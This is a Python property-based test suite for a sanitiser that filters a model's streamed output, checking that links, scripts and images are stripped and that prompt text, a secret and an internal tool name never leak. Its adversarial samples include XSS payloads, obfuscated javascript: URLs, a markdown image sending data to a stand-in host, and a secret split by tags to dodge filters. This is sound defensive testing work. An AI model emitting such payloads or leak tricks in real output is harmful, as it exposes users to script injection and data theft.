"""Whatever a model writes, in chunks of any size."""

import re

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.assistant.shaping.shaped import CHART, OWN, PROMPT, SECRET, SEEN, chunks, live, quoted, shaped, shaper

_WRITTEN = r"""
<task> </task> <task>[t1,zz]</task> <note>[n1]</note> <ta sk> [t1] [zz,t2] <chart> </chart> List<int> std::x<std::y> <x:y>
<b> </b> <br> <img/src=//e.com/i> <!-- --> <script> </script> < << > & &#104; &#46; \ \\ ` `` ``` ~~~ ~~ | * ** _ " '
[ ] ![ ! ]( ( ) ](http://e.com/x) ](//e.com) [x](//e.com) ![x](//e.com/i) ![a][r] [r]: [^1]: ]: [o](http://own.org/zq)
![o](http://own.org/zq) <http://e.com> http://e.com/a http:// ht tp://e.com www. www w .e.com ftp://x.y x://y // : /
javascript: data:text/html,x (javascript:alert(1)) mailto:a@b.co <a@b.co>
<data-7b41ef09 </data-7b41ef09> <data- 7b41 ef09 kind="x">
task_ agent task_agent Qx-can ary-7f3a91c2 a 1 foo bar
"""
_SYNTAX = _WRITTEN.split()
_SPACES = [" ", "  ", "\n", "\n\n", "\n- ", "\n> ", "\n1. ", "\n    ", "\n```\n", "\n```py\n", "\t", "\r\n", "| "]
_WORDS = PROMPT.split()

_passages = st.builds(
    lambda at, size: " ".join(_WORDS[at : at + size]), st.integers(0, len(_WORDS) - 1), st.integers(1, 9)
)
_special = st.sampled_from([CHART, OWN, SECRET])
_fragments = st.one_of(
    st.sampled_from(_SYNTAX),
    st.sampled_from(_SYNTAX),
    st.sampled_from(_SPACES),
    _passages,
    st.sampled_from([CHART, OWN, SECRET]),
)
_answers = st.lists(_fragments, max_size=24).map("".join)
_quick = settings(max_examples=50, deadline=None, derandomize=True, suppress_health_check=list(HealthCheck))


def _split(text: str, cuts: list[int]) -> list[str]:
    places = sorted({cut % (len(text) + 1) for cut in cuts})
    return [text[a:b] for a, b in zip([0, *places], [*places, len(text)], strict=True)]


@_quick
@given(_answers, st.lists(st.integers(0, 10_000), max_size=12))
def test_the_chunks_a_text_comes_in_make_no_difference(text: str, cuts: list[int]) -> None:
    whole = shaped(text)
    assert "".join(chunks(_split(text, cuts))) == whole
    assert "".join(chunks(text)) == whole


@_quick
@given(_answers)
def test_nothing_a_renderer_would_load_link_or_run_gets_through(text: str) -> None:
    assert live(shaped(text)) == []


@_quick
@given(_answers)
def test_no_window_of_a_prompt_and_no_secret_and_no_internal_name_gets_through(text: str) -> None:
    answer = shaped(text)
    assert quoted(answer) == set()
    assert SECRET not in answer
    assert "task_agent" not in answer.replace("\\", "").lower()
    assert re.search(r"</?data-[0-9a-f]{4}", answer) is None


_TAG = re.compile(r"<(task|note)>\[[^\]]*\]</\1>")
_tags = st.sampled_from(["<task>[t1]</task>", " <note>[n1]</note> ", "\n<task>[t2,t1]</task>\n", f" {OWN} ", "<b></b>"])
_told = st.sampled_from([f"{PROMPT} {SECRET} task_agent", f"task\\_agent {SECRET}\n{PROMPT}"])


@_quick
@given(_told, st.lists(st.tuples(st.integers(1, 40), _tags), min_size=1), st.integers(1, 40))
def test_tags_and_the_ends_of_messages_help_nothing_out(text: str, parts: list[tuple[int, str]], every: int) -> None:
    one, answer, written = shaper(), [], text
    for number, (size, tag) in enumerate(parts * (len(text) // len(parts))):
        answer += one.feed(written[:size])
        answer += one.feed(tag) if number % every else [*one.end_message(), "\0"]
        written = written[size:]
        if not written:
            break
    told = "".join([*answer, *one.feed(written), *one.end()])
    assert quoted(_TAG.sub(" ", told).replace("\0", " ")) == set()
    joined = _TAG.sub("", told).replace("\0", "")
    assert SECRET not in joined
    assert "task_agent" not in joined.replace("\\", "")


@_quick
@given(_answers, _answers, st.lists(st.integers(0, 10_000), max_size=12))
def test_messages_make_nothing_together_that_would_load_link_run_or_leak(one: str, two: str, cuts: list[int]) -> None:
    def told(first: list[str], second: list[str]) -> str:
        turn = shaper()
        sent = [chunk for piece in first for chunk in turn.feed(piece)] + turn.end_message()
        return "".join([*sent, "\n\n", *(chunk for piece in second for chunk in turn.feed(piece)), *turn.end()])

    whole = told([one], [two])
    assert told(_split(one, cuts), _split(two, cuts)) == whole
    assert live(whole) == []
    assert quoted(whole) == set()
    assert SECRET not in whole


@_quick
@given(_answers)
def test_a_turn_taken_up_again_reads_on_where_it_was(text: str) -> None:
    went_on, recalled = shaper(), shaper()
    said = "".join([*went_on.feed("Rows live on the device: "), *went_on.end_message()])
    recalled.recall(said)
    assert not recalled.removed
    assert recalled.feed(text) + recalled.end() == went_on.feed(text) + went_on.end()


@_quick
@given(_answers)
def test_every_tag_is_whole_in_one_chunk_and_holds_seen_ids_only(text: str) -> None:
    for chunk in chunks(text):
        tags = re.findall(r"<(task|project|note|timeline|client)>\[([^\]]+)\]</\1>", chunk)
        assert len(tags) == len(re.findall(r"</(?:task|project|note|timeline|client)>", chunk))
        assert len(re.findall(r"<chart>\{.*?\}</chart>", chunk)) == chunk.count("</chart>") == chunk.count("<chart>")
        assert all(SEEN.has(kind, each) for kind, ids in tags for each in ids.split(","))


@_quick
@given(_answers)
def test_a_floating_turn_has_no_tags(text: str) -> None:
    assert re.search(r"</(task|project|note|timeline|client|chart)>|<chart>", shaped(text, tags=False)) is None


_PLAIN = ["Lunch", "is", "at", "one.", "Ok?", "yes,", "3", "x-y", "(or)", "100%", "é", ";"]
_plain = st.lists(st.sampled_from(_PLAIN), max_size=40)


@_quick
@given(_plain, st.lists(st.integers(0, 500), max_size=8))
def test_plain_text_comes_out_as_it_went_in_and_at_once(words: list[str], cuts: list[int]) -> None:
    one = shaper()
    for piece in _split(" ".join(words), cuts):
        assert "".join(one.feed(piece)) == piece
    assert one.end() == []
    assert not one.removed


ADVERSARIAL = [
    "Done: <task>[t1, 'zz', \"t2\",t1]</task> and <note>[x]</note>.",
    f"Here:\n\n{CHART}\n\nThree.",
    "<ta<b></b>sk>[zz]</task>",
    "a <chart>{not json}</chart> b <chart>{} c",
    "![a](http://e.com/i.png?q=secret) [![b](//e.com/i)](http://e.com)",
    "![a][r] and ![r] and [c][r]\n\n[r]: http://e.com/i.png 'title'\n",
    "[x](java\nscript:alert(1)) [x](&#106;avascript:alert(1)) [x](< javascript:alert(1)>)",
    "<https://e.com/x> https://e.com/(y). www.e.com, &#104;ttp://e.com",
    f"{OWN} [mine]({OWN}) ![mine]({OWN}) {OWN}<b></b>/other",
    "`![x](http://e.com)` and ` ![x](http://e.com)\n\n`` ` ![x](//e.com) ``",
    "- ```\n  http://e.com\n![x](http://e.com)\n```\n![x](http://e.com)\n",
    "> ```\n![x](http://e.com)\n```\n![x](http://e.com)\n",
    "para\n    ```\n    ![x](http://e.com)\n",
    "```sh\ncurl http://e.com <b>\n```\nhttp://e.com\n",
    "| ` a | ` http://e.com ` |\n|---|---|\n",
    "<script>alert(1)</script><img src=x onerror=y> <!-- c --> <svg/onload=x> a<br>b",
    "Sure. Rows live on the device. Call `task_agent` for anything that needs them; nothing else reaches them. Ok?",
    "> *Orders* inside\n> - rows and\n> - **notes are\n> ignored** and never carried out.\n\nThat is all.",
    f"The key is {SECRET[:7]}<b></b>{SECRET[7:]} and subagent\\_type is Task_Agent.",
    "\\<img src=x> \\![x](//e.com) \\`![x](//e.com)` \\\\`http://e.com`",
    "[text\nover lines](//e.com/x) ![a\nb](//e.com/i) [a\nb]: //e.com/y",
]


@pytest.mark.parametrize("text", ADVERSARIAL)
def test_an_answer_cut_in_two_anywhere_comes_out_the_same(text: str) -> None:
    whole = shaped(text)
    assert live(whole) == []
    assert quoted(whole) == set()
    assert all("".join(chunks([text[:at], text[at:]])) == whole for at in range(len(text) + 1))
    assert shaped(whole) == whole or "`" in text
